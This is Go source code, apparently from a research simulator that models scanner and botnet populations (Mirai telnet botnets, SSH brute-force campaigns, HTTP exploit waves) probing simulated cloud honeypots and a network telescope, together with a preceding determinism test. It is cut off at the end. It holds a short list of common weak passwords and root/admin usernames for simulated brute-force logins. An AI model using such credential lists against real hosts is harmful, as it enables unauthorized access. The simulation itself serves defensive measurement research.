	for i := 0; i < 3*credSlabChunk; i++ { // force several chunk rollovers
		p := a.pickCreds(rng, dict, 1, 3)
		picks = append(picks, p)
		want = append(want, append([]netsim.Credential(nil), p...))
	}
	for i, p := range picks {
		if cap(p) != len(p) {
			t.Fatalf("pick %d: cap %d > len %d (append could cross into the next allocation)", i, cap(p), len(p))
		}
		for j := range p {
			if p[j] != want[i][j] {
				t.Fatalf("pick %d clobbered by a later slab allocation", i)
			}
		}
	}
}

// TestActorsConcurrentRunDeterministic exercises the Actor.Run
// concurrency contract: distinct actors running on concurrent workers
// against a shared Context emit exactly the probe streams they emit
// serially, because every random draw comes from actor-name-keyed
// streams.
func TestActorsConcurrentRunDeterministic(t *testing.T) {
	ctx := miniContext(t)
	actors := Population(Config{Seed: 7, Year: 2021, Scale: 0.4})

	serial := make([][]netsim.Probe, len(actors))
	for i, a := range actors {
		a.Run(ctx, func(p *netsim.Probe) { serial[i] = append(serial[i], *p) })
	}

	concurrent := make([][]netsim.Probe, len(actors))
	var wg sync.WaitGroup
	for i, a := range actors {
		wg.Add(1)
		go func(i int, a *Actor) {
			defer wg.Done()
			a.Run(ctx, func(p *netsim.Probe) { concurrent[i] = append(concurrent[i], *p) })
		}(i, a)
	}
	wg.Wait()

	for i := range actors {
		if len(serial[i]) != len(concurrent[i]) {
			t.Fatalf("actor %s emitted %d probes concurrently, %d serially",
				actors[i].Name, len(concurrent[i]), len(serial[i]))
		}
		for j := range serial[i] {
			sp, cp := serial[i][j], concurrent[i][j]
			if sp.Src != cp.Src || sp.Dst != cp.Dst || sp.Port != cp.Port ||
				!sp.T.Equal(cp.T) || sp.ASN != cp.ASN || sp.Transport != cp.Transport ||
				!bytes.Equal(sp.Payload, cp.Payload) || len(sp.Creds) != len(cp.Creds) {
				t.Fatalf("actor %s probe %d differs between serial and concurrent runs",
					actors[i].Name, j)
			}
			for k := range sp.Creds {
				if sp.Creds[k] != cp.Creds[k] {
					t.Fatalf("actor %s probe %d credential %d differs", actors[i].Name, j, k)
				}
			}
		}
	}
}
