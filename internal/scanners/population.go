package scanners

import (
	"math/rand"
	"strconv"
	"strings"
	"time"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Config parameterizes the actor population.
type Config struct {
	Seed  int64
	Year  int     // 2020, 2021 (baseline), or 2022: Appendix C variants
	Scale float64 // source-IP population multiplier; 0 means 1.0
	// Scenario selects the registered adversarial world the population
	// is built from (see scenario.go); "" means the baseline — the
	// paper's collection week.
	Scenario string
}

// scale applies the population multiplier. A negative Scale never
// reaches here: Validate rejects it before any builder runs, so the
// only zero-value fallback is Scale == 0 meaning 1.0.
func (c Config) scale(n int) int {
	s := c.Scale
	if s <= 0 {
		s = 1
	}
	v := int(float64(n)*s + 0.5)
	if v < 1 {
		v = 1
	}
	return v
}

// Population builds the full actor population of the study year. Every
// behavioral finding of the paper corresponds to one or more actors
// here; the analysis pipeline must re-derive the findings from the
// traffic these actors generate.
func Population(cfg Config) []*Actor {
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	var actors []*Actor
	add := func(as []*Actor) { actors = append(actors, as...) }

	add(bulkResearch(cfg))
	add(miraiFamily(cfg))
	add(sshCampaigns(cfg))
	add(tsunami(cfg))
	add(httpCampaigns(cfg))
	add(narrowWebSweeps(cfg))
	add(unexpectedProtocol(cfg))
	add(miners(cfg))
	add(nmapTrio(cfg))
	add(telescopeSweeps(cfg))
	add(backgroundRadiation(cfg))
	add(eduLocal(cfg))
	add(portCampaigns(cfg))
	add(neighborLatchers(cfg))
	add(monitorLatchers(cfg))
	add(apacCountryActors(cfg))
	if cfg.Year == 2020 {
		add(year2020Anomalies(cfg))
	}
	return actors
}

func newActor(cfg Config, name string, asn int, benign bool, n int,
	gen func(a *Actor, ctx *Context, emit func(*netsim.Probe))) *Actor {
	as := netsim.MustAS(asn)
	return &Actor{
		Name:   name,
		AS:     as,
		Benign: benign,
		IPs:    SourceIPs(as, name, cfg.scale(n), cfg.Seed),
		Gen:    gen,
	}
}

// --- Research / search-engine scanners (benign, scan everything) -----------

func bulkResearch(cfg Config) []*Actor {
	protoPayload := func(rng *rand.Rand, port uint16) netsim.PayloadID {
		if p := fingerprint.Expected(port); p != fingerprint.Unknown {
			// Research scanners occasionally probe alternate protocols
			// on assigned ports; Censys is the paper's "leading benign
			// organization to find unexpected services".
			if port == 80 || port == 8080 {
				if rng.Float64() < 0.10 {
					return ProbeID(fingerprint.TLS)
				}
			}
			return ProbeID(p)
		}
		return ProbeID(fingerprint.HTTP)
	}
	mk := func(name string, asn int, n, perIP int, cover float64) *Actor {
		return newActor(cfg, name, asn, true, n, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports:       []uint16{21, 22, 23, 25, 80, 443, 2222, 2323, 7547, 8080},
				Cover:       cover,
				MinAttempts: 1,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					return protoPayload(rng, 0)
				},
			})
			a.ScanTelescope(ctx, emit, TelescopeScan{
				Ports: []uint16{21, 22, 23, 25, 80, 443, 2222, 2323, 7547, 8080},
				PerIP: perIP,
			})
		})
	}
	censys := mk("censys", 398324, 24, 8, 0.6)
	// Port-aware payloads need the destination port, so wire the
	// generator manually for censys/shodan.
	gen := func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		ports := []uint16{21, 22, 23, 25, 80, 443, 2222, 2323, 7547, 8080}
		h := netsim.PooledStream(ctx.Seed, "bulk:"+a.Name)
		defer h.Release()
		rng := h.Rand
		// One probe variable for the whole sweep: emit receives its
		// address, per the no-retention contract (see Actor.Run).
		var p netsim.Probe
		for _, src := range a.IPs {
			for _, t := range ctx.U.ServiceTargets() {
				if rng.Float64() >= 0.6 {
					continue
				}
				for _, port := range ports {
					if !t.ListensOn(port) {
						continue
					}
					// Field stores, not a struct literal — see ScanServices.
					p.T = uniformTime(rng)
					p.Src = src
					p.ASN = a.AS.ASN
					p.Dst = t.IP
					p.Port = port
					p.Transport = wire.TCP
					p.Pay = protoPayload(rng, port)
					p.Creds = nil
					emit(&p)
				}
			}
		}
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: ports, PerIP: 8})
	}
	censys.Gen = gen
	shodan := newActor(cfg, "shodan", 10439, true, 12, gen)
	zgrab := newActor(cfg, "zgrab-research", 14061, true, 15, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{22, 80, 443}, Cover: 0.5, MinAttempts: 1,
			Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
				return researchHTTPIDs[rng.Intn(len(researchHTTPIDs))]
			},
		})
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22, 80, 443}, PerIP: 6})
	})
	return []*Actor{censys, shodan, zgrab}
}

// --- Mirai-style telnet botnets ---------------------------------------------

// miraiASNs hosts the telnet botnet population: consumer ISPs across
// every continent, which is why Telnet "does not discriminate against
// telescopes" (§5.2, ≥91% overlap).
var miraiASNs = []int{4134, 4837, 3462, 17974, 45899, 9829, 4766, 28573, 12389, 9121, 8452, 8151, 18403, 24560, 55836, 7922, 701, 3320}

func miraiFamily(cfg Config) []*Actor {
	var actors []*Actor
	for i, asn := range miraiASNs {
		scan2323 := i%2 == 0 // half the family sweeps 2323 on the darknet (Table 8: 53% overlap)
		name := "mirai-" + strconv.Itoa(asn)
		actors = append(actors, newActor(cfg, name, asn, false, 28, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{23, 2323}, Cover: 0.30,
				MinAttempts: 1, MaxAttempts: 2,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, telnetUsersGlobal, 2, 5)
				},
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID { return telnetCommandID },
			})
			telPorts := []uint16{23}
			if scan2323 {
				telPorts = append(telPorts, 2323)
			}
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: telPorts, PerIP: 22})
		}))
	}
	// The Australia-focused Huawei campaign (§5.1): "mother" and
	// "e8ehome" dominate the AWS Australia region.
	actors = append(actors, newActor(cfg, "mirai-huawei-au", 4837, false, 30, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{23, 2323}, Cover: 0.85,
			Filter: func(t *netsim.Target) bool {
				return t.Network == "aws" && t.Geo.Country == "AU"
			},
			MinAttempts: 2, MaxAttempts: 4,
			Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
				return a.pickCreds(rng, telnetUsersHuaweiAU, 2, 4)
			},
		})
	}))
	return actors
}

// --- SSH bruteforce campaigns (telescope avoiders) ---------------------------

func sshCampaigns(cfg Config) []*Actor {
	var actors []*Actor
	mkSSH := func(name string, asn, n int, flavor string, cover float64,
		weight func(*netsim.Target) float64, telescopeSrcs int, telescopePerIP int) *Actor {
		creds := sshCreds(flavor)
		return newActor(cfg, name, asn, false, n, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22, 2222}, Cover: cover, Weight: weight,
				MinAttempts: 1, MaxAttempts: 3,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, creds, 1, 3)
				},
			})
			if telescopeSrcs > 0 {
				sub := *a
				if telescopeSrcs < len(a.IPs) {
					sub.IPs = a.IPs[:telescopeSrcs]
				}
				sub.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22}, PerIP: telescopePerIP})
			}
		})
	}

	// Chinanet: in 2021 six times more unique scanners target the
	// education networks than the clouds; by 2022 the preference is
	// gone (§5.2). Only a sliver of its sources ever touch the
	// telescope ("2.5 times more unique scanners from Chinanet target
	// SSH/22 in our cloud and education honeypots compared to the
	// telescope").
	chinanetWeight := func(t *netsim.Target) float64 {
		if cfg.Year != 2022 && t.Kind == netsim.KindEducation {
			return 6.0
		}
		return 1.0
	}
	actors = append(actors,
		mkSSH("chinanet-ssh", 4134, 90, "root-heavy", 0.10, chinanetWeight, 9, 2),
		mkSSH("chinamobile-ssh", 56046, 40, "service-heavy", 0.35, nil, 0, 0),
		mkSSH("cogent-ssh", 174, 40, "cloud-heavy", 0.35, func(t *netsim.Target) float64 {
			if t.Kind == netsim.KindEducation {
				return 0.14 // seven times fewer than cloud (§5.2)
			}
			return 1.0
		}, 4, 1),
		mkSSH("ovh-ssh", 16276, 15, "user-heavy", 0.30, nil, 0, 0),
		mkSSH("hetzner-ssh", 24940, 15, "cloud-heavy", 0.30, nil, 2, 1),
		mkSSH("selectel-ssh", 49505, 12, "iot-heavy", 0.30, nil, 0, 0),
		mkSSH("colocrossing-ssh", 36352, 12, "root-heavy", 0.25, nil, 0, 0),
		mkSSH("tencent-ssh", 45090, 15, "service-heavy", 0.30, nil, 2, 1),
		mkSSH("alibaba-ssh", 37963, 14, "user-heavy", 0.25, nil, 0, 0),
	)
	return actors
}

// --- Tsunami: single-IP latch in the Hurricane Electric /24 ------------------

func tsunami(cfg Config) []*Actor {
	asns := []int{202425, 204428, 48693, 211252, 47890}
	var actors []*Actor
	for _, asn := range asns {
		actors = append(actors, newActor(cfg, "tsunami-"+strconv.Itoa(asn), asn, false, 40,
			func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
				victim := pickRegionVictim(ctx, "he:us-ohio", "tsunami")
				if victim == nil {
					return
				}
				a.ScanServices(ctx, emit, ServiceScan{
					Ports: []uint16{22}, Cover: 0.95,
					Filter:      func(t *netsim.Target) bool { return t == victim },
					MinAttempts: 2, MaxAttempts: 5,
					Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
						return a.pickCreds(rng, sshCreds("root-heavy"), 2, 4)
					},
				})
			}))
	}
	return actors
}

// pickRegionVictim deterministically selects one honeypot of a region
// — the "botnets latch on to individual targets" behavior (§4.4).
func pickRegionVictim(ctx *Context, region, salt string) *netsim.Target {
	targets := ctx.U.Region(region)
	if len(targets) == 0 {
		return nil
	}
	h := netsim.PooledStream(ctx.Seed, "victim:"+region+":"+salt)
	t := targets[h.Rand.Intn(len(targets))]
	h.Release()
	return t
}

// --- HTTP campaigns -----------------------------------------------------------

func httpCampaigns(cfg Config) []*Actor {
	var actors []*Actor

	// mixPayload picks a benign request most of the time; exploit
	// picks favor a per-target "campaign focus" (stable hash of the
	// target address), so identical neighboring services accumulate
	// different top payloads from the same campaign — the §4.1 payload
	// divergence without any shift in the AS distribution.
	mixPayload := func(exploits []netsim.PayloadID, exploitShare float64) func(*rand.Rand, *netsim.Target) netsim.PayloadID {
		return func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
			if rng.Float64() < exploitShare {
				if rng.Float64() < 0.75 {
					return exploits[int(uint32(t.IP)>>3)%len(exploits)]
				}
				return exploits[rng.Intn(len(exploits))]
			}
			return benignHTTPIDs[rng.Intn(len(benignHTTPIDs))]
		}
	}

	// Broad web sweeps: hit clouds, EDUs, and the darknet alike —
	// ports 80/8080 show the highest telescope overlap after telnet
	// (73–80%, Table 8).
	actors = append(actors, newActor(cfg, "gafgyt-web", 202425, false, 40, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.45, MinAttempts: 1, MaxAttempts: 2,
			Payload: mixPayload(HTTPExploitIDs("global"), 0.35),
		})
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80, 8080}, PerIP: 14, Pick: Avoid255(4)})
	}))
	// A vetted commercial crawler: pure benign GETs, which is most of
	// what HTTP/80 receives (§3.2: 75% of port-80 payloads carry no
	// exploit) and the benign share of Table 11.
	actors = append(actors, newActor(cfg, "web-crawl-baseline", 7922, true, 35, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080, 443}, Cover: 0.55, MinAttempts: 1, MaxAttempts: 2,
			Payload: mixPayload(HTTPExploitIDs("global"), 0),
		})
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80, 8080}, PerIP: 12, Pick: Avoid255(4)})
	}))
	// Censys probes alternate protocols on assigned ports: the benign
	// slice of Table 11's ∼HTTP rows.
	actors = append(actors, newActor(cfg, "censys-altproto", 398324, true, 8, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.7, MinAttempts: 1, MaxAttempts: 2,
			Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
				return ProbeID(fingerprint.TLS)
			},
		})
	}))
	actors = append(actors, newActor(cfg, "log4shell-campaign", 204428, false, 18, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.5, MinAttempts: 1,
			Payload: mixPayload(HTTPExploitIDs("cloud-api"), 0.8),
		})
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80}, PerIP: 10, Pick: Avoid255(4)})
	}))

	// Asia-Pacific IoT exploit wave: its regional payload mix is what
	// Table 4/5's APAC HTTP-payload divergence measures.
	actors = append(actors, newActor(cfg, "iot-apac-web", 45899, false, 35, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.30,
			Weight: func(t *netsim.Target) float64 {
				if t.Geo.Continent == "APAC" {
					return 2.6
				}
				return 0.4
			},
			MinAttempts: 1, MaxAttempts: 2,
			Payload: mixPayload(HTTPExploitIDs("iot-apac"), 0.7),
		})
		a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80, 8080}, PerIP: 8, Pick: Avoid255(4)})
	}))

	// Emirates Internet POSTs only toward Mumbai (§5.1).
	actors = append(actors, newActor(cfg, "emirates-mumbai", 5384, false, 10, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80}, Cover: 0.9,
			Filter: func(t *netsim.Target) bool {
				return t.Geo.Country == "IN" && t.Geo.City == "BOM"
			},
			MinAttempts: 2, MaxAttempts: 4,
			Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID { return exploitPostLogID },
		})
	}))
	// SATNET targets everything except Mumbai (§5.1).
	actors = append(actors, newActor(cfg, "satnet-not-mumbai", 14522, false, 12, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.45,
			Filter: func(t *netsim.Target) bool {
				return !(t.Geo.Country == "IN" && t.Geo.City == "BOM")
			},
			MinAttempts: 1,
			Payload:     mixPayload(HTTPExploitIDs("global"), 0.2),
		})
	}))

	// Android-emulator commands concentrated on AWS Frankfurt (§5.1).
	actors = append(actors, newActor(cfg, "android-frankfurt", 3320, false, 12, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{80, 8080}, Cover: 0.25,
			Weight: func(t *netsim.Target) float64 {
				if t.Region == "aws:eu-frankfurt" {
					return 8
				}
				return 0.3
			},
			MinAttempts: 1, MaxAttempts: 2,
			Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID { return exploitAndroidID },
		})
	}))
	// Extra telnet volume into AWS Paris (§5.1).
	actors = append(actors, newActor(cfg, "paris-telnet", 12389, false, 15, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
		a.ScanServices(ctx, emit, ServiceScan{
			Ports: []uint16{23}, Cover: 0.30,
			Weight: func(t *netsim.Target) float64 {
				if t.Region == "aws:eu-paris" {
					return 5
				}
				return 0.5
			},
			MinAttempts: 1, MaxAttempts: 3,
			Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
				return a.pickCreds(rng, telnetUsersGlobal, 1, 3)
			},
		})
	}))
	return actors
}

// --- Unexpected-protocol scanners (§6 / Table 11) ----------------------------

func unexpectedProtocol(cfg Config) []*Actor {
	n := 45
	if cfg.Year == 2022 {
		// 2022 doubles the unexpected-protocol share (Table 17: 34%).
		n = 110
	}
	var weights []float64
	for _, p := range unexpectedProtocolProbes {
		weights = append(weights, p.Weight)
	}
	mk := func(name string, asn, count int) *Actor {
		return newActor(cfg, name, asn, false, count, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80, 8080}, Cover: 0.55, MinAttempts: 1, MaxAttempts: 2,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					pick := unexpectedProtocolProbes[netsim.PickWeighted(rng, weights)]
					return ProbeID(pick.Proto)
				},
			})
			// These sources are also seen exploiting (GreyNoise labels
			// the majority of unexpected-protocol scanners malicious).
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80}, Cover: 0.18, MinAttempts: 1,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					g := HTTPExploitIDs("global")
					return g[rng.Intn(len(g))]
				},
			})
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{80, 8080}, PerIP: 5, Pick: Avoid255(4)})
		})
	}
	return []*Actor{
		mk("cn-unexpected-4134", 4134, n*2/3),
		mk("cn-unexpected-9808", 9808, n/3),
	}
}

// --- Search-engine miners (§4.3 / Table 3) -----------------------------------

// minerScan bursts brute-force traffic at services indexed by one
// engine: the "spikes of traffic towards leaked services".
type minerSpec struct {
	name     string
	asn      int
	n        int
	engine   string // "censys", "shodan", or "history"
	port     uint16
	attempts [2]int
	payload  func(rng *rand.Rand) netsim.PayloadID
	creds    func(a *Actor, rng *rand.Rand) []netsim.Credential
}

func miners(cfg Config) []*Actor {
	extendedPw := []string{"123456", "password", "admin", "changeme", "qwerty", "letmein", "toor", "111111", "abc123"}
	sshMinerCreds := func(a *Actor, rng *rand.Rand) []netsim.Credential {
		n := 3 + rng.Intn(4)
		out := a.credAlloc(n)
		for i := 0; i < n; i++ {
			out = append(out, netsim.Credential{
				Username: []string{"root", "admin", "ubuntu"}[rng.Intn(3)],
				Password: extendedPw[rng.Intn(len(extendedPw))],
			})
		}
		return out
	}
	// Telnet miners mostly connect-and-probe; only a sliver of their
	// volume carries logins — Table 3's telnet rows pair a 72.6× "All"
	// fold with a mere 1.6× "Malicious" fold.
	telnetMinerCreds := func(a *Actor, rng *rand.Rand) []netsim.Credential {
		if rng.Float64() < 0.08 {
			return a.pickCreds(rng, telnetUsersGlobal, 1, 2)
		}
		return nil
	}
	// HTTP miners interleave reconnaissance GETs with exploitation:
	// the "All" fold exceeds the "Malicious" fold (7.7–17.2× vs
	// 4.0–7.3×).
	httpMinerPayload := func(rng *rand.Rand) netsim.PayloadID {
		if rng.Float64() < 0.62 {
			return benignHTTPIDs[rng.Intn(len(benignHTTPIDs))]
		}
		g := HTTPExploitIDs("post-login")
		if rng.Float64() < 0.4 {
			g = HTTPExploitIDs("global")
		}
		return g[rng.Intn(len(g))]
	}

	specs := []minerSpec{
		// HTTP miners rely more on Censys (4.0× malicious fold), but
		// Shodan's HTTP feed drives the biggest raw volume (15.7×).
		{"miner-http-censys", 16276, 22, "censys", 80, [2]int{18, 36}, httpMinerPayload, nil},
		{"miner-http-shodan", 24940, 30, "shodan", 80, [2]int{30, 55}, httpMinerPayload, nil},
		// SSH miners rely more heavily on Shodan (2.8×) and try ~3x
		// more unique passwords on leaked services.
		{"miner-ssh-shodan", 49505, 26, "shodan", 22, [2]int{10, 20}, nil, sshMinerCreds},
		{"miner-ssh-censys", 14061, 12, "censys", 22, [2]int{9, 16}, nil, sshMinerCreds},
		// Telnet miners: Censys-driven bursts are enormous (72.6×
		// traffic fold) while Shodan adds almost nothing (1.06×).
		{"miner-telnet-censys", 4837, 38, "censys", 23, [2]int{60, 120}, nil, telnetMinerCreds},
		{"miner-telnet-shodan", 9121, 4, "shodan", 23, [2]int{1, 2}, nil, telnetMinerCreds},
		// History miners work from stale index data: they are why
		// previously-leaked services still attract 17–201× more
		// traffic.
		{"miner-history-http", 36352, 26, "history", 80, [2]int{28, 55}, httpMinerPayload, nil},
		{"miner-history-telnet", 45090, 30, "history", 23, [2]int{140, 260}, nil, telnetMinerCreds},
		{"miner-history-ssh", 63949, 12, "history", 22, [2]int{4, 8}, nil, sshMinerCreds},
	}

	var actors []*Actor
	for _, sp := range specs {
		sp := sp
		actors = append(actors, newActor(cfg, sp.name, sp.asn, false, sp.n, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			indexed := func(t *netsim.Target) bool {
				switch sp.engine {
				case "censys":
					return ctx.Censys.Indexed(t.IP, sp.port)
				case "shodan":
					return ctx.Shodan.Indexed(t.IP, sp.port)
				default:
					return (ctx.Censys.Historical(t.IP) || ctx.Shodan.Historical(t.IP)) &&
						!ctx.Censys.Indexed(t.IP, sp.port) && !ctx.Shodan.Indexed(t.IP, sp.port)
				}
			}
			a.ScanServices(ctx, emit, ServiceScan{
				Ports:  []uint16{sp.port},
				Filter: func(t *netsim.Target) bool { return indexed(t) && t.ListensOn(sp.port) },
				Cover:  0.9,
				// Miners work through engine result lists; fleet
				// honeypots share /24s and soak proportionally less
				// per IP than the isolated leak-experiment hosts.
				Weight: func(t *netsim.Target) float64 {
					if strings.HasPrefix(t.Region, "stanford:leak") {
						return 1.0
					}
					return 0.015
				},
				MinAttempts: sp.attempts[0], MaxAttempts: sp.attempts[1],
				Payload: wrapPayload(sp.payload),
				Creds:   wrapCreds(a, sp.creds),
				Time:    burstClock(ctx, sp.name),
			})
		}))
	}
	return actors
}

func wrapPayload(f func(rng *rand.Rand) netsim.PayloadID) func(*rand.Rand, *netsim.Target) netsim.PayloadID {
	if f == nil {
		return nil
	}
	return func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID { return f(rng) }
}

// wrapCreds binds a shared credential generator to the actor whose
// slab the generated slices draw from (generators are shared across a
// spec table; slabs must not be).
func wrapCreds(a *Actor, f func(a *Actor, rng *rand.Rand) []netsim.Credential) func(*rand.Rand, *netsim.Target) []netsim.Credential {
	if f == nil {
		return nil
	}
	return func(rng *rand.Rand, t *netsim.Target) []netsim.Credential { return f(a, rng) }
}

// burstClock produces spike-shaped timestamps: each miner condenses
// most of its traffic into a handful of short windows during the week
// ("spikes"), with a smaller steady re-scan component that keeps the
// leaked services' hourly volume stochastically above the control
// group's (the Mann-Whitney bold of Table 3).
func burstClock(ctx *Context, salt string) func(*rand.Rand) time.Time {
	wh := netsim.PooledStream(ctx.Seed, "burst:"+salt)
	var starts []time.Time
	for i := 0; i < 5; i++ {
		h := wh.Rand.Intn(netsim.StudyHours - 2)
		starts = append(starts, netsim.StudyStart.Add(time.Duration(h)*time.Hour))
	}
	wh.Release()
	return func(rng *rand.Rand) time.Time {
		if rng.Float64() < 0.35 {
			return uniformTime(rng)
		}
		return burstTime(rng, starts[rng.Intn(len(starts))], 90*time.Minute)
	}
}

// --- nmap trio (§4.3): Censys-fed scanners that skip indexed hosts -----------

func nmapTrio(cfg Config) []*Actor {
	specs := []struct {
		name string
		asn  int
	}{
		{"nmap-avast", 198605}, {"nmap-m247", 9009}, {"nmap-cdn77", 60068},
	}
	var actors []*Actor
	for _, sp := range specs {
		actors = append(actors, newActor(cfg, sp.name, sp.asn, false, 10, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80},
				// "They actively avoid all Censys-leaked HTTP/80
				// honeypots ... the nmap scanners also target the
				// previously leaked honeypots" — up-to-date Censys
				// data only.
				Filter: func(t *netsim.Target) bool {
					return t.ListensOn(80) && !ctx.Censys.Indexed(t.IP, 80)
				},
				Cover: 0.8, MinAttempts: 1, MaxAttempts: 2,
				Payload: func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
					return nmapHTTPIDs[rng.Intn(len(nmapHTTPIDs))]
				},
			})
		}))
	}
	return actors
}

// --- Structure-biased telescope sweeps (§4.2 / Figure 1) ----------------------

func telescopeSweeps(cfg Config) []*Actor {
	return []*Actor{
		// Port 445: avoid any 255 octet, 9×; broadcast-style .255
		// hardest hit (Figure 1b).
		newActor(cfg, "smb445-sweep", 12389, false, 40, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{445}, PerIP: 40, Pick: Avoid255(9)})
		}),
		// Oracle 7574: 61× avoidance.
		newActor(cfg, "oracle7574-sweep", 9121, false, 12, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{7574}, PerIP: 30, Pick: Avoid255(61)})
		}),
		// Port 22: Mirai + PonyNet prefer the first address of each
		// /16 (Figure 1a).
		newActor(cfg, "mirai-ssh-telescope", 4837, false, 40, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			// The paper measures a ~10x preference for /16-start
			// addresses at Orion's scale (475K IPs, millions of
			// probes); our probe volume is ~1000x smaller, so the
			// per-pick multiplier is raised to keep the preference
			// visible above Poisson noise in the per-address counts.
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22}, PerIP: 25, Pick: PreferSlash16Start(300)})
			// A small service-side footprint keeps the SSH overlap
			// with the cloud nonzero but low (Table 9: ≤7.5%).
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22}, Cover: 0.04, MinAttempts: 1,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, sshCreds("iot-heavy"), 1, 2)
				},
			})
		}),
		newActor(cfg, "ponynet-ssh-telescope", 53667, false, 20, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22}, PerIP: 25, Pick: PreferSlash16Start(300)})
		}),
		// Port 17128: a botnet latched onto four addresses (Figure 1d).
		newActor(cfg, "port17128-botnet", 17974, false, 80, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			// Offsets correspond to x.A.91.247, x.A.26.55, x.B.92.113,
			// x.B.25.177 at full /16 granularity.
			offsets := []int{91*256 + 247, 26*256 + 55, 65536 + 92*256 + 113, 65536 + 25*256 + 177}
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{17128}, PerIP: 35, Pick: FixedTelescopeSet(offsets)})
		}),
		// Darknet-only telnet botnets: the reason the telescope's
		// telnet AS mix differs from the clouds' with a large effect
		// size (Table 10: φ=0.82) even though telnet scanners do not
		// avoid the darknet.
		newActor(cfg, "darknet-telnet-9009", 9009, false, 150, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{23}, PerIP: 40})
		}),
		newActor(cfg, "darknet-telnet-60068", 60068, false, 120, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{23, 2323}, PerIP: 35})
		}),
	}
}

// --- Education-local scanners -------------------------------------------------

// eduLocal raises the EDU↔telescope overlap above the cloud's: "Merit
// and Orion being located in the same autonomous system" (§5.2).
func eduLocal(cfg Config) []*Actor {
	return []*Actor{
		newActor(cfg, "edu-telescope-scan", 701, false, 120, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			a.ScanServices(ctx, emit, ServiceScan{
